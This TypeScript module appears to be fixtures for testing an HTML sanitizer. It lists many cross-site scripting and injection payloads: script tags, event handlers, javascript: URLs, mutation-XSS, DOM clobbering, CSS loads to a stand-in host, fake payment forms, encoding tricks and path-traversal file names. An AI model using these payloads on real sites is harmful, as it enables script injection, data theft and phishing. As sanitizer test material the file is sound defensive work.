/** Names of elements, attributes or URLs in one string. */
const split = (text: string) => text.trim().split(/\s+/)

/** Elements that bring a script. */
export const SCRIPTS = [
  "<script>markExecuted()</script>",
  "<script type=module>markExecuted()</script>",
  "<script src=https://evil.example/x.js></script>",
  "<script src='data:text/javascript,markExecuted()'></script>",
  "<script src='blob:https://evil.example/1'></script>",
  "<script\n>markExecuted()</script\n>",
  "<script>markExecuted()",
  "<script><!--\nmarkExecuted()\n--></script>",
  "<scr<script>ipt>markExecuted()</scr</script>ipt>",
  "<scr\u0000ipt>markExecuted()</scr\u0000ipt><script>markExecuted()</script>",
  "<script nonce=''>markExecuted()</script>",
  '<script type=importmap>{"imports":{"react":"//evil.example/x.js"}}</script>',
  "<table><script>markExecuted()</script><tr><td>words</table>",
  "<select><script>markExecuted()</script></select>",
]

/** Elements that take the focus, load or fail to load by themselves, each with a handler that runs then. */
const SELF_ACTING = [
  ...split("input select textarea button keygen").map((name) => `<${name} autofocus onfocus`),
  ...split("img video audio object embed link image").map(
    (name) => `<${name} src=x href=x data=x onerror`,
  ),
  ...split("svg body iframe style").map((name) => `<${name} onload`),
]
/** Handlers of what a visitor or the browser does on a paragraph. */
const EVENTS = split(`
  click auxclick mouseover pointerenter pointerrawupdate wheel copy beforeinput dragstart scrollend
  scrollsnapchange securitypolicyviolation animationstart transitionend slotchange futurething`)
/** Between the parts of a tag. */
const SEPARATORS = ["\t", "\n", "\f", " /"]

/** Attributes that run a script by themselves, when something happens, or when the visitor does something. */
const EVENT_HANDLERS = [
  ...SELF_ACTING.map((tag) => `${tag}=markExecuted()>words`),
  ...EVENTS.map((name) => `<p on${name}=markExecuted()>words</p>`),
  ...SEPARATORS.map((space) => `<img${space}src=x${space}onerror=markExecuted()>`),
  "<img src=x onerror=markExecuted()>",
  "<img src=x OnErRoR=markExecuted()>",
  "<img src=x onerror =markExecuted()>",
  "<img src=x:markExecuted() onerror=eval(src)>",
  "<img src=x onerror=window['mark'+'Executed']()>",
  "<img src=x onerror=eval(atob('bWFya0V4ZWN1dGVkKCk='))>",
  "<img src=x onerror=&#109;arkExecuted()>",
  "<img src=x onerror='new Function`markExecuted\\`\\``'>",
  "<img srcset=x onerror=markExecuted()>",
  "<image src=x onerror=markExecuted()>",
  "<img src=x alt='`' onerror='markExecuted()' title='`'>",
  '<IMG """><SCRIPT>markExecuted()</SCRIPT>">',
  "<body onhashchange=markExecuted()>words",
  "<html onmouseover=markExecuted()>words",
  "<p onbeforematch=markExecuted() hidden=until-found>words</p>",
  "<p contenteditable oninput=markExecuted()>words</p>",
  "<p draggable=true ondragstart=markExecuted()>words</p>",
  "<p style='animation:x 1s' onanimationstart=markExecuted()>words</p>",
  "<p style='transition:all 1s' ontransitionend=markExecuted()>words</p>",
  "<p oncontentvisibilityautostatechange=markExecuted() style=content-visibility:auto>words</p>",
  "<a href=/payments onclick=markExecuted()>words</a>",
  "<table onclick=markExecuted()><tr onclick=markExecuted()><td onclick=markExecuted()>words</table>",
  "<details open ontoggle=markExecuted()>words</details>",
  "<details open onbeforetoggle=markExecuted()><summary>words</summary></details>",
  "<div popover id=p onbeforetoggle=markExecuted()>words</div><button popovertarget=p>words</button>",
]

/** URLs that run a script, read a file, or hide where they lead. */
const HARMFUL_URLS = [
  ...split(`
    javascript:markExecuted() JaVaScRiPt:markExecuted() javascript:%6darkExecuted()
    javascript://%0amarkExecuted() javascript:/*https://example.org*/markExecuted()
    javascript:'<script>markExecuted()</script>' java&#115;cript:markExecuted()
    java&#x73;cript:markExecuted() java&#0000115;cript:markExecuted() javascript&colon;markExecuted()
    java&Tab;script:markExecuted() java&NewLine;script:markExecuted() &#1;javascript:markExecuted()
    &#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;markExecuted() x-javascript:markExecuted()
    vbscript:markExecuted() livescript:markExecuted() feed:javascript:markExecuted()
    data:text/html,<script>markExecuted()</script> data:,words DATA:text/html,<b>words</b>
    data:text/html;base64,PHNjcmlwdD5tYXJrRXhlY3V0ZWQoKTwvc2NyaXB0Pg== data:application/xhtml+xml,<x/>
    blob:https://evil.example/1 filesystem:https://evil.example/x file:///etc/passwd about:blank
    view-source:https://evil.example/ chrome://settings intent://evil.example/#Intent;scheme=https;end
    ms-word:ofe|u|https://evil.example/x.docx search-ms:query=x steam://run/1 sms:+27000000000?body=x
    ftp://evil.example/x ws://evil.example/ jar:https://evil.example/x.jar!/x.html`),
  " javascript:markExecuted()",
  "\tjavascript:markExecuted()",
  "java\nscript:markExecuted()",
  "java\rscript:markExecuted()",
  "javascript\t:markExecuted()",
  "javascript:\nmarkExecuted()",
  "&#14; javascript:markExecuted()",
]

/** Links to them; one attribute in three notations. */
const LINKS = HARMFUL_URLS.map((url, index) => {
  if (index % 3 === 0) return `<a href="${url}">words</a>`
  if (index % 3 === 1) return `<p>words <a title=x href="${url}">words</a></p>`
  return `<a\nHREF="${url}"\nlang=en>words</a>`
})

/** Other attributes whose value is a URL. */
const OTHER_URLS = [
  "<img src=javascript:markExecuted()>",
  "<img src=https://evil.example/x.png>",
  "<img src=//evil.example/x.png>",
  "<img src=/\\evil.example/x.png>",
  "<img src=\\\\evil.example\\x.png>",
  "<img src='https:/\t/evil.example/x.png'>",
  "<img src='/\n/evil.example/x.png'>",
  "<img src='https://localhost@evil.example/x.png'>",
  "<img src='blob:https://evil.example/1'>",
  "<img src='data:image/svg+xml,<svg onload=markExecuted()>'>",
  "<img src=/favicon.svg srcset='https://evil.example/x.png 2x'>",
  "<img srcset='https://evil.example/x.png, /favicon.svg 2x'>",
  "<img src=/favicon.svg usemap=#m><map name=m><area shape=default href=javascript:markExecuted()></map>",
  "<picture><source srcset=https://evil.example/x.png><img src=/favicon.svg></picture>",
  "<a href=/payments ping=https://evil.example/>words</a>",
  "<a href=/payments target=_top>words</a>",
  "<a href=/payments rel=opener target=_blank>words</a>",
  "<a href=/payments download=x.exe>words</a>",
  "<blockquote cite=javascript:markExecuted()>words</blockquote>",
  "<table background=https://evil.example/x.png><tr><td>words</table>",
  "<body background=https://evil.example/x.png>words",
  "<video poster=https://evil.example/x.png></video>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
]

/** SVG and MathML, whose parsers follow other rules than HTML's. */
const SVG_AND_MATHML = [
  "<svg onload=markExecuted()>",
  "<svg><script>markExecuted()</script></svg>",
  "<svg><script>&#109;arkExecuted()</script></svg>",
  "<svg><script xlink:href=data:,markExecuted() /></svg>",
  "<svg><a xlink:href=javascript:markExecuted()><text y=20>words</text></a></svg>",
  "<svg><a><animate attributeName=href values=javascript:markExecuted() /><text y=20>words</text></a></svg>",
  "<svg><animate onbegin=markExecuted() attributeName=x dur=1s />",
  "<svg><image href=x onerror=markExecuted() />",
  "<svg><use href='data:image/svg+xml,<svg id=x onload=markExecuted()/>#x' /></svg>",
  "<svg><foreignObject><iframe onload=markExecuted()></foreignObject></svg>",
  "<svg><foreignObject><img src=x onerror=markExecuted()></foreignObject></svg>",
  "<svg><style>@import url(https://evil.example/x.css)</style></svg>",
  "<svg><style><img src=x onerror=markExecuted()></style></svg>",
  "<svg><style>&lt;img src=x onerror=markExecuted()&gt;</style></svg>",
  "<svg></p><style><a title='</style><img src=x onerror=markExecuted()>'>",
  "<svg><filter><feImage xlink:href=x onerror=markExecuted() /></filter></svg>",
  "<svg xmlns:x=http://www.w3.org/1999/xlink><a x:href=javascript:markExecuted()>words</a></svg>",
  "<math><a href=javascript:markExecuted()>words</a></math>",
  "<math href=javascript:markExecuted()>words</math>",
  "<math><annotation-xml encoding=text/html><img src=x onerror=markExecuted()></annotation-xml></math>",
  "<math><mtext><img src=x onerror=markExecuted()></mtext></math>",
  "<math><script>markExecuted()</script></math>",
]

/** Markup that is harmless until it is written out and read in a second time. */
const MUTATIONS = [
  "<math><mtext><table><mglyph><style><img src=x onerror=markExecuted()>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=markExecuted()&gt;'>",
  "<math><mtext><table><mglyph><style><math><table id='</table>'><img src onerror=markExecuted()'>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=markExecuted()>",
  "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=markExecuted() src>'>",
  "<math><mi></p><style><!--</style><img src='--><img src=x onerror=markExecuted()>'>",
  "<svg></p><style><g title='</style><img src onerror=markExecuted()>'>",
  "<svg></p><title><style></title></style><img src onerror=markExecuted()>",
  "<svg><style><a id='</style><img src=1 onerror=markExecuted()>'>",
  "<svg><title><style><!--</style><img src='--></title><img src onerror=markExecuted()>'>",
  "<svg><annotation-xml><foreignObject><style><!--</style><p id='--><img src=x onerror=markExecuted()>'>",
  "<noscript><p title='</noscript><img src=x onerror=markExecuted()>'>",
  "<noscript><style></noscript><img src=x onerror=markExecuted()>",
  "<noscript><!--</noscript><img src=x onerror=markExecuted()>-->",
  "<noembed><p title='</noembed><img src=x onerror=markExecuted()>'></noembed>",
  "<noframes><p title='</noframes><img src=x onerror=markExecuted()>'></noframes>",
  "<xmp><p title='</xmp><img src=x onerror=markExecuted()>'></xmp>",
  "<style><p title='</style><img src=x onerror=markExecuted()>'></style>",
  "<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror=markExecuted()>'>",
  "<table><form><p><table><tr></form><img src=x onerror=markExecuted()></table>",
  "<p><svg><style></p><img src=x onerror=markExecuted()></style>",
  "<a><svg><a><style><b title='</style><img src=x onerror=markExecuted()>'>",
  "<!--><img src=x onerror=markExecuted()>-->",
  "<!--<img src='--><img src=x onerror=markExecuted()>'>",
  "<![CDATA[><img src=x onerror=markExecuted()>]]>",
  `${"<b>".repeat(600)}<img src=x onerror=markExecuted()>`,
  `${"<div>".repeat(511)}<svg><style><a title='</style><img src=x onerror=markExecuted()>'>`,
]

/** Names by which an element takes the place of a property that scripts of the page read. */
const CLOBBERED_NAMES = split(`
  body head cookie location currentScript getElementById querySelector createElement defaultView
  documentElement firstChild attributes nodeName trustedTypes pagePath ___loader ___gatsby
  gatsby-focus-wrapper earlyClick beforeHydration __proto__ constructor toString hasOwnProperty prototype`)
const CLOBBERING = [
  ...CLOBBERED_NAMES.map((name) => `<p id=${name} name=${name}>words</p>`),
  "<a id=x><a id=x name=y href=javascript:markExecuted()>words</a>",
  "<form name=body><input name=firstChild><input name=attributes></form>",
  "<form><input name=parentNode><input name=nodeName><input name=removeChild></form>",
]

/** Styles that load, cover the page, or spy on it. */
const STYLES = [
  "<style>*{background:url(https://evil.example/x)}</style>",
  "<style>@import 'https://evil.example/x.css'</style>",
  "<style>@font-face{font-family:x;src:url(https://evil.example/x)}p{font-family:x}</style>",
  "<style>a[href^='/']{background:url(https://evil.example/x)}</style>",
  "<style>body{display:none}</style>",
  "<style>h1::after{content:'Pay into another account'}</style>",
  "<p style='background:url(https://evil.example/x)'>words</p>",
  "<p style='position:fixed;inset:0;z-index:9999'>words</p>",
  "<p style='width:expression(markExecuted())'>words</p>",
  "<p style='b\\61 ckground:u\\72l(https://evil.example/x)'>words</p>",
  "<table style='background:url(https://evil.example/x)'><tr><td>words</table>",
  "<p class=prose>words</p>",
  "<div class='tableFrame skipLink'>words</div>",
  "<font color=red face=x size=7>words</font>",
]

/** Elements that change the page around them, ask the visitor for something, or open another page. */
const FRAMES_AND_FORMS = [
  ...split(
    "base label output select textarea fencedframe portal applet isindex center basefont",
  ).map((name) => `<${name} href=//evil.example/ action=javascript:markExecuted()>words</${name}>`),
  "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
  "<meta http-equiv=refresh content='0;url=javascript:markExecuted()'>",
  "<meta http-equiv=content-security-policy content=\"default-src 'none'\">",
  "<meta name=referrer content=unsafe-url>",
  "<base href=https://evil.example/>",
  "<link rel=canonical href=https://evil.example/>",
  "<iframe src=https://evil.example/></iframe>",
  "<iframe src='data:text/html,<script>markExecuted()</script>'></iframe>",
  "<iframe srcdoc='<script>parent.markExecuted()</script>'></iframe>",
  "<iframe src=/payments></iframe>",
  "<object data=javascript:markExecuted()></object>",
  "<object data='data:text/html,<script>markExecuted()</script>'></object>",
  "<embed src=javascript:markExecuted()>",
  "<form action=https://evil.example/><input name=account><button>Pay</button></form>",
  "<form action=javascript:markExecuted()><button>words</button></form>",
  "<dialog open>Pay into another account</dialog>",
]

/** Content that waits in a template, a shadow tree or a custom element. */
const TEMPLATES = [
  "<template><script>markExecuted()</script></template>",
  "<template><img src=x onerror=markExecuted()></template>",
  "<template shadowrootmode=open><script>markExecuted()</script></template>",
  "<div><template shadowrootmode=open><img src=x onerror=markExecuted()></template></div>",
  "<div><template shadowrootmode=closed><style>:host{display:none}</style></template></div>",
  "<svg><foreignObject><template><script>markExecuted()</script></template></foreignObject></svg>",
  "<slot onslotchange=markExecuted()>words</slot>",
  "<evil-element><script>markExecuted()</script></evil-element>",
  "<p data-react-helmet=true data-x='{{markExecuted()}}'>words</p>",
]

/** Tricks with characters, in tags and their attributes. */
const ENCODINGS = [
  "<img src=x onerror=&#x6d;&#x61;&#x72;&#x6b;Executed()>",
  "<img src=x one\u0000rror=markExecuted()>",
  "<img\u0000src=x onerror=markExecuted()>",
  "<\u0000img src=x onerror=markExecuted()><img src=x onerror=markExecuted()>",
  "<img src=x\u000bonerror=markExecuted()><img src=x onerror=markExecuted()>",
  "\u202e<script>markExecuted()</script>\u202c",
  "<ımg src=x onerror=markExecuted()><img src=x onerror=markExecuted()>",
  "＜script＞markExecuted()＜/script＞<script>markExecuted()</script>",
  "+ADw-script+AD4-markExecuted()+ADw-/script+AD4-<meta charset=utf-7>",
  "\ud800<script>markExecuted()</script>",
  "<a href='java\u0000script:markExecuted()' onclick=markExecuted()>words</a>",
  "<a href='\u00a0javascript:markExecuted()' onclick=markExecuted()>words</a>",
  "<a href='javascript\uff1amarkExecuted()' onclick=markExecuted()>words</a>",
  "<a href='jav&#x09;ascript:markExecuted()'>words</a>",
  "<a href='j&#00097;vascript:markExecuted()'>words</a>",
  "<img src='&#x2f;&#x2f;evil.example/x.png'>",
  "<img src='//evil&period;example/x.png'>",
  "<img src='//evil\u3002example/x.png'>",
]

/** The text of a cell, and the markup that decoding it once too often would make of it. */
const ENCODED_CELLS: readonly [cell: string, decoded: string][] = [
  ["&lt;script&gt;markExecuted()&lt;/script&gt;", "<script>markExecuted()</script>"],
  ["&#60;img src=x onerror=markExecuted()&#62;", "<img src=x onerror=markExecuted()>"],
  ["&#x3c;img src=x onerror=markExecuted()&#x3e;", "<img src=x onerror=markExecuted()>"],
  ["&LT;svg onload=markExecuted()&GT;", "<svg onload=markExecuted()>"],
  [
    "&amp;lt;script&amp;gt;markExecuted()&amp;lt;/script&amp;gt;",
    "<script>markExecuted()</script>",
  ],
  ["<p>&lt;iframe src=javascript:markExecuted()&gt;</p>", "<iframe src=javascript:markExecuted()>"],
  [
    "<p title='&lt;img src=x onerror=markExecuted()&gt;'>words</p>",
    "<img src=x onerror=markExecuted()>",
  ],
  [
    "<img src=/favicon.svg alt='&quot; onerror=markExecuted() x=&quot;'>",
    "<img src=x onerror=markExecuted()>",
  ],
  ["%3Cscript%3EmarkExecuted()%3C%2Fscript%3E", "<script>markExecuted()</script>"],
  ["\\x3cscript\\x3emarkExecuted()\\x3c/script\\x3e", "<script>markExecuted()</script>"],
  // Excel's own notation for characters, which the reader decodes by itself.
  ["_x003C_script_x003E_markExecuted()_x003C_/script_x003E_", "<script>markExecuted()</script>"],
  ["_x003c_img src=x onerror=markExecuted()_x003e_", "<img src=x onerror=markExecuted()>"],
  ["_x005F_x003C_script_x005F_x003E_markExecuted()", "<script>markExecuted()"],
]

/** Cells that name a picture, in the column Image. */
const IMAGE_CELLS = [
  "https://evil.example/x.png",
  "//evil.example/x.png",
  "\\\\evil.example\\x.png",
  "/\\evil.example/x.png",
  "javascript:markExecuted().png",
  "data:image/svg+xml,<svg onload=markExecuted()>.svg",
  "../x.png",
  "..\\x.png",
  "Blog/../../x.png",
  "%2e%2e%2fx.png",
  "x%2fy.png",
  "x%00.png",
  "x.png?y=https://evil.example/",
  "C:\\x.png",
  'x" onerror="markExecuted()" y=".png',
  "x onerror=markExecuted() .png",
  "x><script>markExecuted()<script>.png",
  "&quot; onerror=markExecuted() .png",
  "x\u202egnp.exe.png",
  "__proto__.png",
  "．．／x.png",
  "https:evil.example.png",
]

/** Markup, by what it tries. */
export const CLASSES: Record<string, readonly string[]> = {
  scripts: SCRIPTS,
  "event handlers": EVENT_HANDLERS,
  "link URLs": LINKS,
  "other URLs": OTHER_URLS,
  "SVG and MathML": SVG_AND_MATHML,
  mutations: MUTATIONS,
  "clobbered names": CLOBBERING,
  styles: STYLES,
  "frames and forms": FRAMES_AND_FORMS,
  templates: TEMPLATES,
  encodings: ENCODINGS,
}

/** What is in the cells of encoded attacks, for a parser. */
export const DECODED_CELLS = ENCODED_CELLS.map(([, markup]) => markup)

export const ALL_ATTACKS = [
  ...Object.values(CLASSES).flat(),
  ...ENCODED_CELLS.map(([cell]) => cell),
  ...IMAGE_CELLS,
]
